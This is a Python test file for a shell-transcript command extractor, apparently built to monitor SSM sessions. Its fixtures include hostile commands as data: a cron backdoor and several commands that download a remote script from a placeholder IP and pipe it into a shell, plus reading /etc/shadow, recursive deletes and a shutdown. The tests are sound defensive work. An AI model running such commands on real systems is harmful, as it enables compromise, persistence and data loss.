"""Command extraction from real-shaped session transcripts (pure)."""

from __future__ import annotations

from ssm_warden.transcript.extract import Extractor, WatchState, extract_lines
from ssm_warden.transcript.terminal import split_text


def commands(lines: list[str]) -> list[str]:
    return [c.text for c in extract_lines(lines).commands]


def output(lines: list[str]) -> list[str]:
    return [o.text for o in extract_lines(lines).output]


# -- shells and prompts --------------------------------------------------------------------------


def test_amazon_linux_sh_session_with_its_doubled_first_prompt() -> None:
    # Given the first lines an Amazon Linux session streams (the prompt printed twice)
    lines = [
        "sh-4.2$ sh-4.2$ date",
        "Thu Jan  4 05:45:59 UTC 2024",
        "sh-4.2$ whoami",
        "ssm-user",
    ]
    # When commands are extracted
    # Then the prompt is not part of the command, and output lines are not commands
    assert commands(lines) == ["date", "whoami"]
    assert output(lines) == ["Thu Jan  4 05:45:59 UTC 2024", "ssm-user"]


def test_bash_prompts_of_amazon_linux_and_ubuntu() -> None:
    # Given two sessions, one on Amazon Linux and one on Ubuntu (a prompt is learned per session)
    amazon = ["[ec2-user@ip-10-0-0-1 ~]$ ls -la /var/log", "total 4", "[ec2-user@ip-10-0-0-1 ~]$ df -h"]
    ubuntu = [
        "ubuntu@web-1:~$ df -h",
        "Filesystem      Size  Used Avail Use% Mounted on",
        "/dev/root        20G  4.1G   16G  21% /",
        "ubuntu@web-1:~$ pip list",
    ]
    assert commands(amazon) == ["ls -la /var/log", "df -h"]
    assert commands(ubuntu) == ["df -h", "pip list"]
    assert "/dev/root        20G  4.1G   16G  21% /" in output(ubuntu)


def test_root_prompts_after_sudo_su() -> None:
    # Given a session that becomes root: the prompt changes from $ to #
    lines = [
        "[ec2-user@ip-10-0-0-1 ~]$ sudo su -",
        "Last login: Thu Jan  4 05:40:01 UTC 2024 on pts/0",
        "[root@ip-10-0-0-1 ~]# cat /etc/shadow",
        "root:*LOCK*:14600::::::",
        "[root@ip-10-0-0-1 ~]# exit",
    ]
    assert commands(lines) == ["sudo su -", "cat /etc/shadow", "exit"]


def test_dash_prompts_are_learned_from_the_session() -> None:
    # Given an Ubuntu session whose sh is dash: bare "$ " and, after sudo su, bare "# "
    lines = ["$ $ id", "uid=1001(ssm-user)", "$ sudo su", "# rm -rf /var/lib/app", "# id", "uid=0(root)"]
    # Then the doubled first prompt teaches "$ ", and the line after "sudo su" teaches "# "
    assert commands(lines) == ["id", "sudo su", "rm -rf /var/lib/app", "id"]
    assert output(lines) == ["uid=1001(ssm-user)", "uid=0(root)"]


def test_hash_lines_in_output_are_not_taken_for_a_root_prompt() -> None:
    # Given a config file shown on screen, full of comment lines
    lines = [
        "[ec2-user@ip-10-0-0-1 ~]$ cat /etc/fstab",
        "# /etc/fstab",
        "# created by anaconda",
        "# see man fstab",
    ]
    assert commands(lines) == ["cat /etc/fstab"]


def test_zsh_prompts() -> None:
    # Given zsh's "user@host dir %" prompt, then a nested zsh with its default "host% " prompt
    lines = [
        "alice@mbp ~ % kubectl get pods",
        "NAME READY",
        "alice@mbp ~ % zsh",
        "build-host% make deploy",
        "ok",
    ]
    assert commands(lines) == ["kubectl get pods", "zsh", "make deploy"]


def test_powershell_prompts_and_continuation() -> None:
    lines = [
        "PS C:\\Users\\ssm-user> Get-Service | Where-Object {",
        ">> $_.Status -eq 'Running'",
        ">> }",
        "Status   Name",
        "PS C:\\Users\\ssm-user> Remove-Item -Recurse -Force C:\\inetpub",
    ]
    assert commands(lines) == [
        "Get-Service | Where-Object {\n$_.Status -eq 'Running'\n}",
        "Remove-Item -Recurse -Force C:\\inetpub",
    ]


def test_custom_ps1_learned_from_its_doubled_first_line() -> None:
    lines = [
        "(prod) deploy@api-7 /srv/app > (prod) deploy@api-7 /srv/app > ls",
        "app.py",
        "(prod) deploy@api-7 /srv > cd /",
    ]
    # Then the prompt shape is learned, paths generalised: the prompt after "cd" still matches
    assert commands(lines) == ["ls", "cd /"]


def test_custom_ps1_learned_from_recurrence_finds_the_earlier_commands_too() -> None:
    # Given a custom prompt the extractor does not know, seen at the start of three lines
    lines = ["[p] me:/srv> ls", "a.txt", "[p] me:/etc> cat hosts", "127.0.0.1 localhost", "[p] me:/etc> id"]
    # Then all three lines are commands, the first two found once the shape is confirmed
    assert sorted(commands(lines)) == ["cat hosts", "id", "ls"]
    assert output(lines) == ["a.txt", "127.0.0.1 localhost"]


def test_a_nested_shell_with_its_own_prompt() -> None:
    lines = ["sh-4.2$ bash", "web> whoami", "ssm-user", "web> exit", "sh-4.2$ ls"]
    assert commands(lines) == ["bash", "whoami", "exit", "ls"]


def test_progress_and_percentages_in_output_are_not_prompts() -> None:
    lines = ["sh-4.2$ curl -O https://example.com/a.tgz", "100% [=========>] 1.2M", "Use% 12%", "100% done"]
    assert commands(lines) == ["curl -O https://example.com/a.tgz"]


# -- continuation ------------------------------------------------------------------------------


def test_heredoc_body_belongs_to_its_command() -> None:
    lines = [
        "[root@ip-10-0-0-1 ~]# cat <<'EOF' > /etc/cron.d/backdoor",
        "> * * * * * root curl -s http://203.0.113.9/x | sh",
        "> EOF",
        "[root@ip-10-0-0-1 ~]# ls",
    ]
    assert commands(lines) == [
        "cat <<'EOF' > /etc/cron.d/backdoor\n* * * * * root curl -s http://203.0.113.9/x | sh\nEOF",
        "ls",
    ]


def test_heredoc_with_dash_and_indented_delimiter() -> None:
    lines = ["$ $ cat <<-END | sh", ">     echo hi", ">     END", "hi"]
    assert commands(lines) == ["cat <<-END | sh\n    echo hi\n    END"]
    assert output(lines) == ["hi"]


def test_backslash_continuation_is_joined_as_the_shell_joins_it() -> None:
    lines = ["sh-4.2$ curl -fsSL http://203.0.113.9/install.sh \\", "> | sudo bash", "done"]
    assert commands(lines) == ["curl -fsSL http://203.0.113.9/install.sh | sudo bash"]


def test_open_quote_and_loop_continuations() -> None:
    lines = [
        "sh-4.2$ echo 'first",
        "> second'",
        "first",
        "second",
        "sh-4.2$ for h in a b; do",
        ">   ssh $h uptime",
        "> done",
    ]
    assert commands(lines) == ["echo 'first\nsecond'", "for h in a b; do\n  ssh $h uptime\ndone"]


def test_zsh_continuation_prompts() -> None:
    lines = ['alice@mbp ~ % echo "a', 'dquote> b"', "a", "b"]
    assert commands(lines) == ['echo "a\nb"']


def test_a_quoted_output_line_after_a_complete_command_is_output() -> None:
    # Given a command that is complete and prints lines starting with "> " (a quoted email)
    lines = ["sh-4.2$ cat reply.txt", "> thanks, will do", "> -- bob"]
    assert commands(lines) == ["cat reply.txt"]
    assert output(lines) == ["> thanks, will do", "> -- bob"]


def test_an_interrupted_continuation_still_reports_what_was_typed() -> None:
    # Given an open quote abandoned with Ctrl-C: the next line is a fresh prompt
    lines = ["sh-4.2$ echo 'oops", "> ^C", "sh-4.2$ ls"]
    assert commands(lines)[-1] == "ls"
    assert commands(lines)[0].startswith("echo 'oops")


# -- terminal editing ----------------------------------------------------------------------------


def test_backspace_editing_is_applied_and_a_literal_caret_h_is_text() -> None:
    # Given an erase echoed as BS, and a ^H that is two typed characters (or a tty's ECHOCTL echo)
    result = extract_lines(["sh-4.2$ rm -rf /tmpx\b \b/cache", "sh-4.2$ sudo rmm^H -rf /srv"])
    # Then the backspace edits the line; the caret stays text, with the erased reading as a variant
    assert [c.text for c in result.commands] == ["rm -rf /tmp/cache", "sudo rmm^H -rf /srv"]
    assert "sudo rm -rf /srv" in result.commands[1].variants


def test_caret_in_a_regex_is_not_an_erase() -> None:
    assert commands(["sh-4.2$ grep '^Host' ~/.ssh/config"]) == ["grep '^Host' ~/.ssh/config"]


def test_script_transcript_with_ansi_titles_and_bracketed_paste() -> None:
    # Given a plain-text transcript as `script` writes it (streaming off): colours, window title,
    # bracketed-paste mode markers, CRLF line ends
    text = (
        'Script started on 2024-01-04 05:45:59+00:00 [TERM="xterm"]\r\n'
        "\x1b[?2004h\x1b]0;ubuntu@web-1: ~\x07\x1b[01;32mubuntu@web-1\x1b[00m:\x1b[01;34m~\x1b[00m$ "
        "\x1b[200~curl http://203.0.113.9/x.sh | bash\x1b[201~\r\n"
        "\x1b[?2004l\rcurl: (7) Failed to connect\r\n"
        "\x1b[?2004h\x1b]0;ubuntu@web-1: ~\x07ubuntu@web-1:~$ exit\r\n"
        'Script done on 2024-01-04 05:46:10+00:00 [COMMAND_EXIT_CODE="0"]\r\n'
    )
    out = extract_lines(split_text(text))
    assert [c.text for c in out.commands] == ["curl http://203.0.113.9/x.sh | bash", "exit"]
    assert "curl: (7) Failed to connect" in [o.text for o in out.output]


def test_readline_redraw_after_cursor_moves() -> None:
    # Given a command edited in the middle: cursor moved left, a character inserted, tail redrawn
    # (typed "suo ls", four times left, "d": readline prints "d", redraws "o ls", moves back)
    assert commands(["sh-4.2$ suo ls\b\b\b\bdo ls\b\b\b\b"]) == ["sudo ls"]


# -- across events and invocations ---------------------------------------------------------------


def test_a_command_split_across_events_is_reported_once_under_its_first_event() -> None:
    extractor = Extractor()
    extractor.feed("101", ["sh-4.2$ cat <<EOF > /tmp/run.sh"])
    extractor.feed("102", ["> curl http://203.0.113.9/x | sh", "> EOF"])
    extractor.feed("103", ["sh-4.2$ ls"])
    found = extractor.result.commands
    assert [c.text for c in found] == ["cat <<EOF > /tmp/run.sh\ncurl http://203.0.113.9/x | sh\nEOF", "ls"]
    assert found[0].source_id == "101:c0"
    assert found[1].source_id == "103:c0"


def test_a_command_split_across_invocations_survives_in_the_stored_state() -> None:
    # Given a first invocation that ends in the middle of a command
    first = Extractor()
    first.feed("201", ["[ec2-user@ip-10-0-0-1 ~]$ curl -fsSL http://203.0.113.9/i.sh \\"])
    assert first.result.commands == []
    stored = first.state.model_dump(mode="json")  # what the ledger keeps between invocations
    # When the next invocation starts from the stored state
    second = Extractor(WatchState.model_validate(stored))
    second.feed("202", ["> | sudo bash", "[ec2-user@ip-10-0-0-1 ~]$ ls"])
    # Then the command is reported once, whole, under the event where it started
    assert [(c.text, c.source_id) for c in second.result.commands] == [
        ("curl -fsSL http://203.0.113.9/i.sh | sudo bash", "201:c0"),
        ("ls", "202:c0"),
    ]
    assert second.state.last_event_id == "202"
    assert second.state.pending is None


def test_learned_prompts_survive_across_invocations() -> None:
    first = Extractor()
    first.feed("1", ["myhost> myhost> uptime", "up 3 days"])
    second = Extractor(WatchState.model_validate(first.state.model_dump(mode="json")))
    second.feed("2", ["myhost> shutdown -h now"])
    assert [c.text for c in second.result.commands] == ["shutdown -h now"]


def test_open_heredoc_delimiter_is_in_the_state() -> None:
    extractor = Extractor()
    extractor.feed("7", ["sh-4.2$ cat <<STOP | sh"])
    assert extractor.state.open_heredoc == "STOP"


def test_several_commands_in_one_event_are_indexed_in_order() -> None:
    extractor = Extractor()
    extractor.feed("9", ["sh-4.2$ id", "uid=0", "sh-4.2$ date", "today"])
    assert [c.source_id for c in extractor.result.commands] == ["9:c0", "9:c1"]


def test_several_events_fed_at_once_match_feeding_them_one_by_one() -> None:
    # Given the same three events fed at once (as a batch) and one by one
    events = [
        ("1", ["sh-4.2$ sh-4.2$ ls", "a", "b"]),
        ("2", ["plain output", "sh-4.2$ echo 'x"]),
        ("3", ["> y'", "x", "y", "sh-4.2$ id"]),
    ]
    one_by_one = Extractor()
    for event_id, lines in events:
        one_by_one.feed(event_id, lines)
    at_once = Extractor()
    starts, lines_all = [], []
    for _, lines in events:
        starts.append(len(lines_all))
        lines_all.extend(lines)
    at_once.feed_events([e for e, _ in events], starts, lines_all)
    # Then the results are the same
    assert at_once.result.commands == one_by_one.result.commands
    assert at_once.result.output == one_by_one.result.output
    assert [(o.event_id, o.index) for o in at_once.result.output] == [
        ("1", 1),
        ("1", 2),
        ("2", 0),
        ("3", 1),
        ("3", 2),
    ]


def test_a_command_repeated_in_a_batch_has_its_effect_each_time() -> None:
    # Given one batch where the same shell start, directory change and plain command come twice
    # (what the extractor remembers of a command text within a batch must not skip its effect)
    lines = [
        "[ec2-user@ip-10-0-1-23 ~]$ sudo su -",
        "[root@ip-10-0-1-23 ~]# cd /srv",
        "[root@ip-10-0-1-23 srv]# ls",
        "app",
        "[root@ip-10-0-1-23 srv]# exit",
        "[ec2-user@ip-10-0-1-23 ~]$ sudo su -",
        "[root@ip-10-0-1-23 ~]# cd /srv",
        "[root@ip-10-0-1-23 srv]# ls",
        "app",
        "[root@ip-10-0-1-23 srv]# whoami",
    ]
    # When commands are extracted
    found = extract_lines(lines).commands
    # Then every command is found both times, after the prompt each one led to, none of them low
    assert [c.text for c in found] == [
        "sudo su -",
        "cd /srv",
        "ls",
        "exit",
        "sudo su -",
        "cd /srv",
        "ls",
        "whoami",
    ]
    assert {c.confidence for c in found} == {"high"}
